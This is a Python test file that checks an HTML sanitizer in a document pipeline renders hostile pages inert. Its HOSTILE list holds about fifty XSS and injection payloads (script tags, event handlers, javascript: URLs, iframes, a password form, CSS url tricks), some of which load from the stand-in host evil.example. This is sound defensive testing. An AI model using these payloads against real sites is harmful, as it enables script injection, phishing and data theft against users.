"""A hostile page is shown inert: nothing in it acts, asks for anything, leads anywhere or covers what is around it."""

from __future__ import annotations

import re

import pytest
from selectolax.lexbor import LexborHTMLParser

from pipeline.explorer.originals.inert import write_inert
from pipeline.explorer.originals.marked import mark
from tests.corpus.compose import Recipe
from tests.corpus.judge import plain

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT>alert(1)//</SCRIPT ><sCrIpT/src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png alt='a \" onload=alert(1) b'>",
    '<img srcset="https://evil.example/2x.png 2x">',
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>leads away</a>",
    "<a href='&#106;avascript:alert(1)' target=_top>leads away</a>",
    "<a href='https://evil.example/' ping='https://evil.example/p'>leads away</a>",
    "<area href=javascript:alert(1)>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example/><input name=password><button formaction=javascript:1>send</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none} @import url(https://evil.example/x.css); td{background:url(//evil.example/p)}</style>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red'>covers</div>",
    "<div style='background:url(https://evil.example/p.png)'>asks</div>",
    "<div style='background-image:url(&quot;https://evil.example/p.png&quot;)'>asks</div>",
    "<div style='width:expression(alert(1))'>acts</div>",
    "<div style='margin-left:-9999px;transform:scale(99)'>moves</div>",
    "<div style='font-size:999px'>large</div>",
    "<div style='color:red;}</style><script>alert(1)</script>'>breaks out</div>",
    "<td id=c-0-0-0>feigns a cell</td><p id=c-0-1-1 name=frame>feigns a cell</p>",
    "<p onclick=alert(1) onmouseover='alert(1)' autofocus tabindex=1 contenteditable accesskey=x>handlers</p>",
    "<video src=https://evil.example/v.mp4 poster=https://evil.example/p.png autoplay></video>",
    "<audio src=https://evil.example/a.mp3></audio><track src=https://evil.example/t>",
    "<table background=https://evil.example/p.png><tr><td background=javascript:alert(1)>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext-like><img src=x onerror=alert(1)></plaintext-like>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open>covers</dialog>",
    "<marquee onstart=alert(1)>moves</marquee>",
    "<q cite='https://evil.example/'>x</q><blockquote cite='https://evil.example/'>x</blockquote>",
    "<x-y is=evil onfocus=alert(1)>custom</x-y>",
    "<ruby><rt onclick=alert(1)>x</rt></ruby>",
]
ELEMENTS = frozenset(
    "html head body address article aside b big blockquote br caption center cite code col colgroup dd del details "
    "dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q "
    "rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var "
    "wbr".split()
)
ATTRIBUTES = frozenset(
    "colspan rowspan width height align valign border cellpadding cellspacing dir style id class hidden src alt".split()
)
STYLE = re.compile(r"[a-z-]+: [\w#.,%() -]+(?:; [a-z-]+: [\w#.,%() -]+)*")
FORBIDDEN = re.compile(r"position|z-index|transform|url|expression|import|behaviou?r|\\|-\d|@", re.IGNORECASE)


def assert_inert(html: str) -> None:
    """As a browser would parse it: no element, attribute or style but those that do nothing."""
    for node in LexborHTMLParser(f"<!DOCTYPE html><html><body>{html}").css("*"):
        assert node.tag in ELEMENTS, node.html
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES, node.html
            if name == "style":
                assert STYLE.fullmatch(value or "") and not FORBIDDEN.search(value or ""), node.html
            elif name == "src":
                assert re.fullmatch(r"data:image/(?:png|jpeg|gif|webp|bmp);base64,[\w+/=]*", value or ""), node.html
            elif name == "id":
                assert re.fullmatch(r"c-\d+-\d+-\d+", value or ""), node.html
            elif name == "class":
                assert value in ("no-picture", "drawn", "drawn ragged", "gap"), node.html


@pytest.mark.parametrize("fragment", HOSTILE)
def test_a_hostile_fragment_is_written_inert(fragment):
    for around in ("{}", "<p>{}</p>", "<table><tr><td>{}</td></tr></table>", "<div><b>{}", "<svg>{}", "<select>{}"):
        body = LexborHTMLParser(f"<html><body>{around.format(fragment)}<p>after</p></body></html>").body
        assert body is not None
        assert_inert(write_inert(body, {}))


def test_a_report_full_of_hostile_things_is_inert_and_its_cells_are_marked():
    _, data = Recipe(5, "html").write()
    text = data.decode()
    number = 0

    def infest(match: re.Match[str]) -> str:
        nonlocal number
        number += 1
        fragment = HOSTILE[number % len(HOSTILE)]
        # Within the table what is not of a table would be moved before it: put it into cells that hold words.
        return f"{match[0]}{fragment}" if "td" not in fragment and "table" not in fragment else match[0]

    hostile = re.sub(r"</p>|</h[12]>", infest, text)
    hostile = hostile.replace("<td", "<td onclick=alert(1) style='position:fixed;color:red' id=c-0-0-0")
    assert number > 5
    plain_page, infested = mark([text]), mark([hostile])
    assert plain_page and infested
    assert_inert(infested.html)

    def cells(html: str) -> dict[str | None, str]:
        return {node.attributes["id"]: plain(node.text()) for node in LexborHTMLParser(html).css("td[id]")}

    assert cells(plain_page.html) == cells(infested.html)
    assert len(cells(infested.html)) > 250


def test_what_a_script_would_show_is_shown_and_what_a_table_hides_is_not():
    html = """<html><body><div style="display:none"><table border=1><tr><td>规章</td><td>12<span style="display:none">9
    </span></td><td>3</td></tr></table></div></body></html>"""
    marked = mark([html])
    assert marked
    page = LexborHTMLParser(marked.html)
    assert [node.tag for node in page.css("[hidden]")] == ["span"]
    assert page.css_first("#c-0-0-1")


def test_a_page_whose_cells_are_not_found_again_is_not_shown_as_it_is():
    # What stands in a button is no text of the page: the reader drops it, and so is it not shown.
    good = "<table><tr><td>规章</td><td>12</td><td>3</td></tr></table>"
    assert mark([f"<html><body>{good}</body></html>"])
    from pipeline.explorer.originals import marked

    original = marked.write_inert
    try:
        marked.write_inert = lambda body, marks: original(body, marks).replace("12", "13")
        assert mark([f"<html><body>{good}</body></html>"]) is None
    finally:
        marked.write_inert = original
